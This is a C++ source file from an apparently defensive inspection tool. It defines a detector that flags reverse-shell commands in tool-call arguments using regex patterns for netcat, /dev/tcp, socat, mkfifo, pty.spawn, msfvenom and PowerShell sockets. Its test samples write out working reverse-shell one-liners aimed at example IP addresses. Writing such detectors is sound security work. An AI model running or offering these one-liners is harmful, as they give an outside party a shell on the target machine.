// SPDX-License-Identifier: Apache-2.0
#include "core/inspect/detectors/argument_text.h"

#include <algorithm>
#include <array>
#include <memory>

namespace gatehouse::inspect {
namespace {

constexpr std::array<Rule, 1> kReverseShellRules{{{"reverse-shell", Family::Argument, Severity::High,
    "A command that gives somebody else a shell on this machine"}}};

/// A word, and what has to stand near it.
struct ReverseShellForm {
    std::string_view expression;
    std::array<std::string_view, 4> companions; ///< one of them, in small letters; none: the word is enough
    Confidence confidence;
    Confidence alone = Confidence::Low; ///< without a companion: probes of ports, listeners
};

// From the manuals of the programs: what connects a socket with a shell.
constexpr auto kReverseShellForms = std::to_array<ReverseShellForm>({
    {"\\/dev\\/(?:tcp|udp)\\/", {">&", "<&", "<>", "sh -i"}, Confidence::High},
    {"\\b(?:nc|ncat|netcat|nc\\.exe|nc\\.traditional|rlwrap nc) -", {" -e", "e /bin", "-c /bin", "--exec"},
        Confidence::High},
    {"mkfifo ", {"nc ", "telnet ", "s_client", "ncat "}, Confidence::High},
    {"pty\\.spawn", {"socket", "dup2", "connect(", "/dev/tcp"}, Confidence::High, Confidence::Medium},
    {"os\\.dup2\\(", {"socket", "pty", "connect(", "sh"}, Confidence::High},
    {"socat ", {"exec:", "system:", "exec='", "exec=\""}, Confidence::High},
    {"fsockopen\\(", {"exec(", "proc_open", "/bin/sh", "popen("}, Confidence::High},
    {"tcpsocket\\.(?:new|open)\\(", {"exec", "/bin/sh", "popen", "spawn"}, Confidence::High},
    {"sockets\\.tcpclient", {"getstream", "iex", "invoke-expression", "cmd.exe"}, Confidence::High},
    {"\\bpf_inet\\b", {"exec(", "exec{", "/bin/sh", "open(stdin"}, Confidence::High},
    {"s_client -", {"/bin/sh", "/bin/bash", "sh -i", "mkfifo"}, Confidence::High},
    {"\\/inet\\/tcp\\/", {"getline", "|&", "/inet", "while"}, Confidence::High},
    {"net\\.socket\\(\\)|net\\.connect\\(", {"/bin/sh", "cmd.exe", ".pipe(sh.", "/bin/bash"},
        Confidence::High},
    {"\\bmsfvenom |meterpreter\\/reverse|windows\\/shell_reverse_tcp", {}, Confidence::High},
});

class ReverseShellsDetector final : public Detector {
public:
    std::string_view id() const override { return "reverse-shells"; }
    std::span<const Rule> rules() const override { return kReverseShellRules; }
    std::span<const Pattern> patterns() const override
    {
        static const auto kPatterns = patternsOfRows(kReverseShellForms, true);
        return kPatterns;
    }
    std::span<const Sample> samples() const override;

    void onMatch(const Look& look, std::size_t pattern, std::size_t end, FindingSink& sink) const override
    {
        constexpr std::size_t kFarthestLook = 192;
        if (!isArgument(look))
            return;
        const auto& form = kReverseShellForms[pattern];
        const auto from = end > kFarthestLook ? end - kFarthestLook : 0;
        const auto near = lowered(look.text.substr(from, end - from + kFarthestLook));
        const auto isNear = [&near](std::string_view one) {
            return !one.empty() && near.find(one) != std::string::npos;
        };
        const bool isSure = form.companions.front().empty() || std::ranges::any_of(form.companions, isNear);
        sink.found(
            0, {commandStart(look.text, end - 1), end}, ifRun(look, isSure ? form.confidence : form.alone));
    }
};

std::span<const Sample> ReverseShellsDetector::samples() const
{
    static const auto kSamples = std::to_array<Sample>({
        {"bash -i >& /dev/tcp/10.1.2.3/4444 0>&1", "reverse-shell", kInArguments, "command"},
        {"nc -e /bin/sh 10.1.2.3 4444", "reverse-shell", kInArguments, "command"},
        {"mkfifo f; nc 10.1.2.3 9 <f | sh >f", "reverse-shell", kInArguments, "command"},
        {"import socket,pty; s.connect(('h',1)); pty.spawn('sh')", "reverse-shell", kInArguments, "code"},
        {"socat tcp:10.1.2.3:9 exec:sh,pty,stderr", "reverse-shell", kInArguments, "command"},
        {"$c = New-Object System.Net.Sockets.TCPClient('h',9); $c.GetStream()", "reverse-shell",
            kInArguments},
        {"ls -la /dev/tty /dev/null", "", kInArguments, "command"},
        {"import socket; print(socket.gethostname())", "", kInArguments, "code"},
        {"bash -i >& /dev/tcp/10.1.2.3/4444 0>&1", "", mcp::Channel::Result},
    });
    return kSamples;
}

} // namespace

std::unique_ptr<const Detector> makeReverseShellsDetector();
std::unique_ptr<const Detector> makeReverseShellsDetector()
{
    return std::make_unique<ReverseShellsDetector>();
}

} // namespace gatehouse::inspect
